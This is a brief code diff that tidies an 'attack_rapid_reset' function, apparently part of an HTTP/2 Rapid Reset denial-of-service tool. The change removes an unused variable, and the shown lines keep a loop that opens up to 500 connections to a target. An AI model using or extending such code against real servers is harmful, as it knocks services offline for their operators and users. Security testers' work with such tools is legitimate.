@@ -115,10 +115,9 @@ def new_connection(target, **kwargs):
 
 
 def attack_rapid_reset(target, stop, stats):
-    encoder_conn = None
     connections = 0
     while not stop.is_set() and connections < 500:
-        conn = encoder_conn = new_connection(target)
+        conn = new_connection(target)
         connections += 1
         if conn is None:
             stop.wait(0.05)
@@ -146,7 +145,6 @@ def attack_rapid_reset(target, stop, stats):
             pass
         conn.close()
     stats["connections"] = connections
-    del encoder_conn
 
 
 def literal_header(name, value):
